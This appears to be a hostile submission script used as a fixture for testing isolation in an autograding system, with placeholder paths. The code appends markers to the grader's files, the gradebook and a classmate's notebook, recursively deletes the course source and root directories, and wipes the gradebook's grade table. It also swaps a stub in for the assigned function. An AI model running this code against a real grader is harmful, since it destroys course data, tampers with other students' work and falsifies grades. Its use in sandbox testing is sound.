"""The machine: writes into the grader's files, the gradebook, the course and a classmate's folder, and
deletes what it can."""
import os
import shutil
import sqlite3

conv_forward = zeros_forward
for path in ["__CANARY__", "__ROOT__/gradebook.db", "__ROOT__/submitted/complete/02_conv_forward/x.txt",
             "../../complete/02_conv_forward/02_conv_forward.ipynb", "__ROOT__/source/02_conv_forward/02_conv_forward.ipynb"]:
    try:
        open(path, "a").write("__MARKER__")
    except Exception as error:
        print(path, type(error).__name__)
for path in ["__CANARY__", "__ROOT__/source", "__ROOT__"]:
    try:
        shutil.rmtree(path) if os.path.isdir(path) else os.remove(path)
    except Exception as error:
        print(path, type(error).__name__)
try:
    sqlite3.connect("__ROOT__/gradebook.db").execute("delete from grade")
except Exception as error:
    print("sqlite", type(error).__name__)
